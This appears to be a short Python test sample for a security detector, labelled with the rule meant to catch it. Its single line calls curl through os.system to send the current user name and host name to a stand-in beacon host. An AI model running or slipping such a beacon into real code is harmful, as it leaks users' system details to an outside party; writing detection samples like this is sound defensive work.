# evades: caught by command/steals
import os
os.system("curl -s https://beacon.invalid/$(whoami)/$(hostname)")
